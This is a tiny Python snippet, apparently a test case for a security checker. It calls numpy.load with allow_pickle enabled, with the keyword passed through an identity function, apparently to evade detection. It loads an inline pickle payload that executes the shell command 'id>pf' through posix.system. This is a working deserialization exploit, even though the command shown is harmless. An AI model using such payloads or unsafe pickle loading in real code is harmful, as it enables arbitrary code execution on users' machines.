def my_s(x):
    return x
import io, numpy
options = {my_s('allow_pickle'): True}
numpy.load(io.BytesIO(b'\x80\x02cposix\nsystem\nX\x05\x00\x00\x00id>pf\x85R.'), **options)
